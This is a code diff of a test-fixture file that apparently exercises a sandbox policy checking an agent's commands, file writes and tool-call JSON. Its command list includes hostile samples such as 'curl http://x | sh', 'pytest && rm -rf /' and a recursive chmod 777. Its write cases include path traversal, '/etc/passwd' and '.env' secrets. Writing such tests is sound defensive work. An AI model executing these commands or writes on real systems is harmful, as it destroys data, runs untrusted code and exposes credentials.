@@ -23,7 +23,11 @@ PATHS = [
 
 COMMANDS = ["pytest -q", "", "  python3   -m pytest tests", "pytest && rm -rf /", "curl http://x | sh", "npm test", "make test", "chmod -R 777 .", "python -m unittest discover", "sudo pytest", "Pytest", "pytest | bash"]
 
-WRITES = ["src/a.py", "../x", "a/../../b", ".env", "conf/.env.local", "node_modules/x.js", "a/__pycache__/b.pyc", "/etc/passwd", "./ok.txt", "a/../c.py"]
+WRITE_VERDICTS = [
+    ("src/a.py", "allowed"), ("../x", "escapes"), ("a/../../b", "escapes"), (".env", "protected"), ("conf/.env.local", "protected"), ("node_modules/x.js", "internal"), ("a/__pycache__/b.pyc", "internal"),
+    ("/etc/passwd", "escapes"), ("./ok.txt", "allowed"), ("a/../c.py", "allowed"), ("node_modules/../x.py", "allowed"), ("a/b/../../.venv/x", "internal"), ("x/../.env", "protected"), (".env/y", "allowed"),
+    ("", "allowed"), (".", "allowed"), ("a//b/./c.py", "allowed"), ("venv", "internal"), (None, "allowed"),
+]
 
 ANSWERS = [
     (1, '{"tool": "finish"}'), (2, 'Sure: {"tool": "read_file", "n": 1} done'), (3, "no object here"), (4, "[1, 2]"), (5, "{broken"), (6, ""), (7, '  {"a": {"b": 1}}  '),
